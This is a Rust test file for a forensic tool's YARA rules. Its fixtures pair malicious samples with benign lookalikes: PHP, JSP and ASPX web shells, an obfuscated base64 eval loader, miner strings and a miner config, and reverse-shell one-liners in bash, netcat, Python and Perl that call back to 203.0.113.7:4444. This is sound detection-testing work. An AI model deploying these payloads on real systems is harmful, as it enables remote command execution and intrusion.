//! YARA (`--yara`, docs/yara.md) through the real binary: the starter
//! rules on samples and benign lookalikes captured with `exhibit capture`,
//! compile errors naming file and line, the size cap recorded, rule meta
//! and matched strings in the findings, `diff` judging only what changed,
//! `investigate` listing a match as left behind, and a live capture whose
//! running executables are scanned from their captured copies.
#![cfg(feature = "yara")]

use crate::util::{archive_path, capture, exhibit, logical, write};
use exhibit::detect::yara::{BUILTIN_NAME, YaraRequest, YaraRules};
use serde_json::Value;
use std::path::{Path, PathBuf};

/// (rule, file name, sample that must match, benign lookalike that must not).
fn starter_cases() -> Vec<(&'static str, &'static str, Vec<u8>, Vec<u8>)> {
    let b64 = "SGVsbG8gd29ybGQh".repeat(25);
    let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
    elf.extend(vec![0u8; 200]);
    let mut miner = elf.clone();
    miner.extend_from_slice(
        b"\0stratum+tcp://pool.example.net:4444\0XMRig 6.21\0RandomX\0--donate-level\0",
    );
    let mut plain_elf = elf.clone();
    plain_elf.extend_from_slice(b"\0RandomX benchmark\0hashrate\0");
    vec![
        (
            "webshell_php_request_exec",
            "cmd.php",
            b"<?php if (isset($_REQUEST['c'])) { system($_REQUEST['c']); } ?>\n".to_vec(),
            b"<?php $n = htmlspecialchars($_POST['name']); echo \"Hello $n\";\nexec('/usr/bin/convert in.png out.jpg'); ?>\n".to_vec(),
        ),
        (
            "webshell_php_obfuscated_eval",
            "cache.php",
            format!("<?php eval(gzinflate(base64_decode('{b64}'))); ?>\n").into_bytes(),
            format!("<?php $img = base64_decode('{b64}'); file_put_contents('logo.png', $img); ?>\n")
                .into_bytes(),
        ),
        (
            "webshell_jsp_request_exec",
            "shell.jsp",
            b"<%@ page import=\"java.io.*\" %>\n<% String c = request.getParameter(\"cmd\");\nProcess p = Runtime.getRuntime().exec(c); %>\n".to_vec(),
            b"<%@ page import=\"java.io.*\" %>\n<% String n = request.getParameter(\"name\");\nout.println(n); %>\n".to_vec(),
        ),
        (
            "webshell_aspx_request_exec",
            "help.aspx",
            b"<%@ Page Language=\"C#\" %>\n<script runat=\"server\">void Page_Load(){ var psi = new ProcessStartInfo(\"cmd.exe\", \"/c \" + Request.QueryString[\"c\"]); Process.Start(psi); }</script>\n".to_vec(),
            b"<%@ Page Language=\"C#\" %>\n<% Response.Write(Server.HtmlEncode(Request.QueryString[\"q\"])); %>\n".to_vec(),
        ),
        ("miner_elf_stratum", "kworkerd", miner, plain_elf),
        (
            "miner_config_pool_wallet",
            "config.json",
            br#"{"autosave": true, "pools": [{"url": "pool.example.net:3333", "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "pass": "x"}], "randomx": {"mode": "auto"}}"#.to_vec(),
            br#"{"pools": [{"url": "db.internal:5432", "user": "app_user", "max": 10}]}"#.to_vec(),
        ),
        (
            "reverse_shell_bash_dev_tcp",
            "backup.sh",
            b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n".to_vec(),
            b"#!/bin/bash\n# wait for the database\nuntil timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'; do sleep 1; done\n".to_vec(),
        ),
        (
            "reverse_shell_netcat_exec",
            "update.sh",
            b"#!/bin/sh\nrm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f\n".to_vec(),
            b"#!/bin/sh\nnc -z -w 2 db.internal 5432 && echo up\n".to_vec(),
        ),
        (
            "reverse_shell_python_socket",
            "sync.py",
            b"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"]);\n".to_vec(),
            b"import socket, subprocess\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((\"api.internal\", 443))\ns.sendall(b\"ping\")\nsubprocess.call([\"/usr/bin/logger\", \"sent\"])\n".to_vec(),
        ),
        (
            "reverse_shell_perl_php_socket",
            "mail.pl",
            b"perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'\n".to_vec(),
            b"use Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nopen(STDOUT, \">\", \"/var/log/notify.log\");\nexec(\"/usr/sbin/sendmail -t\");\n".to_vec(),
        ),
    ]
}

fn builtin() -> YaraRules {
    YaraRules::compile(&YaraRequest {
        sources: vec![PathBuf::from(BUILTIN_NAME)],
        ..Default::default()
    })
    .expect("the starter rules compile")
}

#[test]
fn every_starter_rule_matches_its_sample_and_not_its_lookalike() {
    let rules = builtin();
    assert!(rules.rules_skipped.is_empty(), "{:?}", rules.rules_skipped);
    let cases = starter_cases();
    // Every rule shipped has a case here.
    let shipped: Vec<String> = exhibit::detect::yara::BUILTIN
        .iter()
        .flat_map(|(_, text)| {
            text.lines()
                .filter_map(|l| l.trim().strip_prefix("rule "))
                .map(|l| l.split([' ', ':', '{']).next().unwrap().to_string())
                .collect::<Vec<_>>()
        })
        .collect();
    assert_eq!(rules.rules, shipped.len());
    for r in &shipped {
        assert!(cases.iter().any(|c| c.0 == r), "no test case for {r}");
    }
    for (rule, name, sample, lookalike) in &cases {
        let hit = rules.matching_rules(sample).unwrap();
        assert!(
            hit.iter().any(|h| h == rule),
            "{rule} missed {name}: {hit:?}"
        );
        let miss = rules.matching_rules(lookalike).unwrap();
        assert!(miss.is_empty(), "the lookalike of {name} matched {miss:?}");
    }
}

fn run_json(args: &[&str], extra: &[&Path]) -> Value {
    let out = exhibit()
        .args(args)
        .args(extra)
        .output()
        .expect("run exhibit");
    assert!(
        out.status.success(),
        "{args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("JSON on stdout")
}

fn yara_rules_on(v: &Value, path: &str) -> Vec<String> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["path"] == path && f["rule"].as_str().unwrap().starts_with("yara."))
        .map(|f| f["rule"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn starter_rules_through_capture_and_scan() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("srv");
    for (_, name, sample, lookalike) in starter_cases() {
        write(&src, &format!("bad/{name}"), &sample);
        write(&src, &format!("good/{name}"), &lookalike);
    }
    let archive = archive_path(&capture(&[src.to_str().unwrap()], &tmp.path().join("out")));
    let v = run_json(
        &["scan", "--yara", BUILTIN_NAME, "--json", "-q"],
        &[&archive],
    );
    for (rule, name, _, _) in starter_cases() {
        let bad = logical(&src.join("bad").join(name));
        let good = logical(&src.join("good").join(name));
        assert!(
            yara_rules_on(&v, &bad).contains(&format!("yara.{rule}")),
            "{bad}: {:?}",
            yara_rules_on(&v, &bad)
        );
        assert!(yara_rules_on(&v, &good).is_empty(), "{good}");
    }
    let y = &v["yara"];
    assert_eq!(y["files_scanned"], 20);
    assert_eq!(y["skipped"].as_array().unwrap().len(), 0);
    assert!(y["processes"].is_null(), "no live response in this capture");
}

#[test]
fn a_rule_that_does_not_compile_names_its_file_and_line() {
    let tmp = tempfile::tempdir().unwrap();
    let rules = tmp.path().join("rules");
    write(&rules, "a_good.yar", b"rule fine { condition: true }\n");
    write(
        &rules,
        "b_bad.yar",
        b"rule broken\n{\n    strings:\n        $a = \"x\n    condition:\n        $a\n}\n",
    );
    write(tmp.path(), "tree/f.txt", b"x");
    let out = exhibit()
        .args(["scan", "--json", "-q", "--yara"])
        .arg(&rules)
        .arg(tmp.path().join("tree"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    let bad = rules.join("b_bad.yar").display().to_string();
    assert!(err.contains("YARA rule does not compile"), "{err}");
    assert!(err.contains(&format!("{bad}:4")), "{err}");
    assert!(out.stdout.is_empty(), "nothing scanned");

    // An unknown identifier on line 3 of a single file.
    let one = tmp.path().join("one.yar");
    std::fs::write(&one, "rule r {\n  condition:\n    nosuchthing\n}\n").unwrap();
    let out = exhibit()
        .args(["scan", "-q", "--yara"])
        .arg(&one)
        .arg(tmp.path().join("tree"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains(&format!("{}:3", one.display())), "{err}");
    assert!(err.contains("nosuchthing"), "{err}");
}

#[test]
fn a_folder_without_rules_is_an_error_not_a_clean_scan() {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(tmp.path().join("empty")).unwrap();
    write(tmp.path(), "tree/f.txt", b"x");
    let out = exhibit()
        .args(["scan", "-q", "--yara"])
        .arg(tmp.path().join("empty"))
        .arg(tmp.path().join("tree"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no YARA rule files"));
}

const META_RULES: &str = r#"
rule tagged_and_described : alpha beta
{
    meta:
        author = "Test Author"
        description = "Finds the marker"
        reference = "https://example.org/ref"
        severity = "medium"
    strings:
        $m = "MARKER-1234"
        $h = { DE AD BE EF }
    condition:
        $m and $h
}

rule scored
{
    meta:
        score = 90
    strings:
        $s = "SCORED"
    condition:
        $s
}

rule plain
{
    strings:
        $p = "PLAIN"
    condition:
        $p
}
"#;

#[test]
fn findings_carry_rule_tags_meta_strings_offsets_and_severity() {
    let tmp = tempfile::tempdir().unwrap();
    let rules = tmp.path().join("t.yar");
    std::fs::write(&rules, META_RULES).unwrap();
    let src = tmp.path().join("tree");
    let mut content = b"0123456789MARKER-1234 then \xde\xad\xbe\xef and MARKER-1234".to_vec();
    content.extend_from_slice(b" SCORED PLAIN");
    write(&src, "data.bin", &content);
    let archive = archive_path(&capture(&[src.to_str().unwrap()], &tmp.path().join("out")));
    let v = run_json(&["scan", "--json", "-q", "--yara"], &[&rules, &archive]);
    let path = logical(&src.join("data.bin"));
    let f = |rule: &str| -> Value {
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["rule"] == rule && f["path"] == path)
            .unwrap_or_else(|| panic!("no {rule}: {v:#}"))
            .clone()
    };
    let t = f("yara.tagged_and_described");
    assert_eq!(t["severity"], "medium");
    assert_eq!(
        t["title"],
        "YARA rule tagged_and_described matched: Finds the marker"
    );
    let ev: Vec<&str> = t["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e.as_str().unwrap())
        .collect();
    assert!(ev.contains(&"tags: alpha, beta"), "{ev:?}");
    assert!(ev.contains(&"author: Test Author"), "{ev:?}");
    assert!(ev.contains(&"reference: https://example.org/ref"), "{ev:?}");
    assert!(
        ev.contains(&"string $m at 0xa (10), 0x24 (36), 11 bytes: \"MARKER-1234\" [4d 41 52 4b 45 52 2d 31 32 33 34]"),
        "{ev:?}"
    );
    assert!(
        ev.contains(&"string $h at 0x1b (27), 4 bytes: [de ad be ef]"),
        "{ev:?}"
    );
    assert!(
        ev.iter()
            .any(|e| e.starts_with("rule: t:tagged_and_described ("))
    );
    assert_eq!(f("yara.scored")["severity"], "critical");
    assert_eq!(f("yara.plain")["severity"], "high");
    // The same facts as data.
    let m = v["yara"]["matches"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["rule"] == "tagged_and_described")
        .unwrap();
    assert_eq!(m["tags"], serde_json::json!(["alpha", "beta"]));
    assert_eq!(m["strings"][0]["offsets"], serde_json::json!([10, 36]));
    assert_eq!(m["strings"][0]["count"], 2);
    assert_eq!(m["rule_file"], rules.display().to_string());

    // --fail-on sees YARA findings like any other.
    let out = exhibit()
        .args(["scan", "-q", "--fail-on", "critical", "--yara"])
        .arg(&rules)
        .arg(&archive)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("yara: 3 rules from 1 file(s); 1 files"),
        "{text}"
    );
}

#[test]
fn files_over_the_size_cap_are_listed_not_dropped() {
    let tmp = tempfile::tempdir().unwrap();
    let rules = tmp.path().join("t.yar");
    std::fs::write(
        &rules,
        "rule marker { strings: $m = \"MARKER\" condition: $m }\n",
    )
    .unwrap();
    let src = tmp.path().join("tree");
    write(&src, "small.txt", b"a MARKER here");
    let mut big = vec![b'.'; 4000];
    big.extend_from_slice(b"MARKER");
    write(&src, "big.txt", &big);
    let archive = archive_path(&capture(&[src.to_str().unwrap()], &tmp.path().join("out")));
    let v = run_json(
        &["scan", "--json", "-q", "--yara-max-size", "1K", "--yara"],
        &[&rules, &archive],
    );
    let small = logical(&src.join("small.txt"));
    let big_path = logical(&src.join("big.txt"));
    assert_eq!(yara_rules_on(&v, &small), ["yara.marker"]);
    assert!(yara_rules_on(&v, &big_path).is_empty());
    let skipped = v["yara"]["skipped"].as_array().unwrap();
    assert_eq!(skipped.len(), 1, "{skipped:?}");
    assert_eq!(skipped[0]["path"], big_path.as_str());
    assert_eq!(skipped[0]["reason"], "size_limit");
    assert_eq!(skipped[0]["size_bytes"], 4006);
    assert_eq!(v["yara"]["max_file_bytes"], 1024);
    // People see it too.
    let out = exhibit()
        .args(["scan", "-q", "--yara-max-size", "1K", "--yara"])
        .arg(&rules)
        .arg(&archive)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains(&format!("NOT scanned: {big_path}")), "{text}");
    assert!(
        text.contains("over the YARA size cap of 1024 bytes"),
        "{text}"
    );
}

#[test]
fn diff_scans_only_what_is_new_or_changed() {
    let tmp = tempfile::tempdir().unwrap();
    let (old, new) = (tmp.path().join("old"), tmp.path().join("new"));
    let shell = b"<?php system($_GET['c']); ?>\n";
    for root in [&old, &new] {
        write(root, "var/www/html/old-shell.php", shell);
        write(root, "var/www/html/index.php", b"<?php echo 'hi'; ?>\n");
    }
    write(&new, "var/www/html/uploads/new-shell.php", shell);
    write(
        &new,
        "var/www/html/index.php",
        b"<?php system($_POST['x']); ?>\n",
    );
    let v = run_json(
        &["diff", "--json", "-q", "--yara", BUILTIN_NAME],
        &[&old, &new],
    );
    let yara: Vec<(String, String)> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"].as_str().unwrap().starts_with("yara."))
        .map(|f| {
            (
                f["path"].as_str().unwrap().to_string(),
                f["change"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    assert_eq!(
        yara,
        [
            (
                "/var/www/html/index.php".to_string(),
                "modified".to_string()
            ),
            (
                "/var/www/html/uploads/new-shell.php".to_string(),
                "added".to_string()
            ),
        ]
    );
    assert_eq!(v["yara"]["files_scanned"], 2);
}

#[test]
fn investigate_lists_a_match_as_left_behind() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("srv");
    write(
        &src,
        "opt/.cache/kworkerd.sh",
        b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
    );
    write(&src, "etc/hostname", b"web01\n");
    let archive = archive_path(&capture(&[src.to_str().unwrap()], &tmp.path().join("out")));
    let v = run_json(
        &["investigate", "--json", "-q", "--yara", BUILTIN_NAME],
        &[&archive],
    );
    let path = logical(&src.join("opt/.cache/kworkerd.sh"));
    let left = v["answers"]["left_behind"].to_string();
    assert!(left.contains(&path), "{left}");
    assert!(left.contains("reverse_shell_bash_dev_tcp"), "{left}");
}

/// A copy of `/bin/sleep` with miner strings appended (an ELF that still
/// runs), started from `dir`: the process a live capture must find.
fn start_fake_miner(dir: &Path, name: &str) -> (std::process::Child, PathBuf) {
    let mut bin = std::fs::read("/bin/sleep").expect("/bin/sleep");
    bin.extend_from_slice(b"\0stratum+tcp://pool.example.net:4444\0xmrig\0randomx\0");
    let exe = dir.join(name);
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(&exe, &bin).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&exe, std::fs::Permissions::from_mode(0o755)).unwrap();
    let child = std::process::Command::new(&exe)
        .arg("120")
        .spawn()
        .expect("run the fake miner");
    (child, exe)
}

#[test]
fn a_live_capture_scans_the_running_executables_it_holds() {
    let tmp = tempfile::tempdir().unwrap();
    // One miner runs from the captured folder, another from a folder not
    // captured whose identical copy sits in the captured one.
    let taken = tmp.path().join("taken");
    let elsewhere = tmp.path().join("elsewhere");
    let (mut a, exe_a) = start_fake_miner(&taken, "xmr-live");
    let (mut b, exe_b) = start_fake_miner(&elsewhere, "xmr-away");
    std::fs::copy(&exe_b, taken.join("copy-of-away")).unwrap();
    let profile = tmp.path().join("p.toml");
    std::fs::write(
        &profile,
        format!(
            "name = \"p\"\ndescription = \"the test folder\"\n[[rule]]\nname = \"t\"\npaths = [\"{}/**\"]\n",
            taken.canonicalize().unwrap().display()
        ),
    )
    .unwrap();
    let out = exhibit()
        .env("EXHIBIT_PROFILE_DIR", tmp.path().join("none"))
        .args(["capture", "--profile"])
        .arg(&profile)
        .arg("-o")
        .arg(tmp.path().join("out"))
        .args(["--case", "Y1", "--examiner", "Test", "--json", "-q"])
        .output()
        .unwrap();
    let _ = (a.kill(), b.kill(), a.wait(), b.wait());
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let archive = archive_path(&doc);
    let v = run_json(
        &["scan", "--json", "-q", "--yara", BUILTIN_NAME],
        &[&archive],
    );
    let live = logical(&exe_a);
    let copy = logical(&taken.join("copy-of-away"));
    let evidence = |path: &str| -> String {
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["path"] == path && f["rule"] == "yara.miner_elf_stratum")
            .unwrap_or_else(|| panic!("no miner finding on {path}"))["evidence"]
            .to_string()
    };
    let e = evidence(&live);
    assert!(
        e.contains(&format!("running: pid {} (xmr-live)", a.id())),
        "{e}"
    );
    let e = evidence(&copy);
    assert!(
        e.contains(&format!("running: pid {} (xmr-away)", b.id()))
            && e.contains(&format!("started from {}", logical(&exe_b))),
        "{e}"
    );
    let p = &v["yara"]["processes"];
    assert!(p["executables"].as_u64().unwrap() >= 2, "{p}");
    assert!(p["scanned"].as_u64().unwrap() >= 2, "{p}");
    // This test's own binary runs but was not captured: named, not dropped.
    let me = std::fs::read_link("/proc/self/exe").unwrap();
    assert!(
        p["not_captured"]
            .as_array()
            .unwrap()
            .iter()
            .any(|u| u["exe"] == me.display().to_string()),
        "{p}"
    );
}

#[test]
fn community_external_variables_are_set_per_file() {
    // Loki/THOR-style rules (signature-base) test the file's name, path and
    // extension through external variables.
    let tmp = tempfile::tempdir().unwrap();
    let rules = tmp.path().join("ext.yar");
    std::fs::write(
        &rules,
        "rule php_in_uploads { strings: $p = \"<?php\" condition: $p and extension == \".php\" and filepath contains \"/uploads/\" }\n\
         rule named_kworker { condition: filename == \"kworkerd\" }\n",
    )
    .unwrap();
    let src = tmp.path().join("tree");
    write(&src, "uploads/a.PHP", b"<?php echo 1; ?>");
    write(&src, "uploads/a.txt", b"<?php echo 1; ?>");
    write(&src, "site/b.php", b"<?php echo 1; ?>");
    write(&src, "tmp/kworkerd", b"x");
    let v = run_json(&["scan", "--json", "-q", "--yara"], &[&rules, &src]);
    let hits: Vec<(String, String)> = v["yara"]["matches"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| {
            (
                m["rule"].as_str().unwrap().to_string(),
                m["path"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        hits,
        [
            ("named_kworker".to_string(), "/tmp/kworkerd".to_string()),
            ("php_in_uploads".to_string(), "/uploads/a.PHP".to_string()),
        ]
    );
}
